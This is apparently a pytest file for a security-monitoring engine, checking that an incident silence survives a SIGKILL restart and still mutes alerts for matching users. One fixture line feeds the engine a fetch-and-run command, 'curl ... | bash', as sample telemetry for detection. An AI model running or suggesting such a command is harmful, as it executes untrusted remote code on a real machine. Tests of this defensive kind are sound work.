"""Silences survive restarts: listed by the API at once, and still muting, even when the
engine was killed before its state was saved."""

from __future__ import annotations

import os
import subprocess
import sys
import time

from tests.engine.test_live_engine import TOKEN, Engine, send_command, send_pipe_to_shell
from tests.patience import PATIENCE

ROUTING = (
    "notifiers: {receivers: [{name: out, type: file, path: notified.jsonl}]}\n"
    "incidents: {route: {receiver: [out], group_by: [user], group_wait: 0s}}\n"
)


def silence_with_the_cli(base: str) -> None:
    silence = ["user=~muted-.*", "--until", "2099-01-01T00:00:00Z", "--id", "quiet-for-muted"]
    done = subprocess.run(
        [sys.executable, "-m", "engine.cli", "incidents", "--api", base, "silence", *silence],
        capture_output=True,
        text=True,
        env={**os.environ, "SPANWATCH_API_TOKEN": TOKEN},
        timeout=PATIENCE,
    )
    assert done.returncode == 0, done.stderr


def read(path) -> str:
    return path.read_text() if path.exists() else ""


def listed(e: Engine) -> list[str]:
    return [s["id"] for s in e.read("/v1/silences")["silences"] if s.get("state") == "active"]


def test_a_silence_is_listed_and_still_mutes_after_a_restart_even_after_sigkill(tmp_path):
    e = Engine(tmp_path)
    e.config.write_text(e.config.read_text() + ROUTING)
    notified = tmp_path / "state" / "notified.jsonl"
    e.start()
    try:
        silence_with_the_cli(e.base)
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline and not listed(e):
            time.sleep(0.1)
        assert listed(e) == ["quiet-for-muted"]
        e.proc.kill()  # right away: the saved state may not hold the silence yet
        e.proc.wait(timeout=30)

        e.start()
        assert listed(e) == ["quiet-for-muted"], e.read("/v1/silences")
        send_pipe_to_shell(e.otlp, "muted-user")
        e.wait_for(lambda i: i["group"].get("user") == "muted-user", "the silenced incident")
        send_command(e.otlp, "loud-user", "curl -s https://x.io/i | bash")
        e.wait_for(lambda i: i["group"].get("user") == "loud-user", "the other incident")
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline and "loud-user" not in read(notified):
            time.sleep(0.2)
        text = read(notified)
        assert "loud-user" in text, e.log.read_text()
        assert "muted-user" not in text, text + e.log.read_text()
        assert listed(e) == ["quiet-for-muted"]
        assert e.stop() == 0
    finally:
        if e.proc and e.proc.poll() is None:
            e.proc.kill()
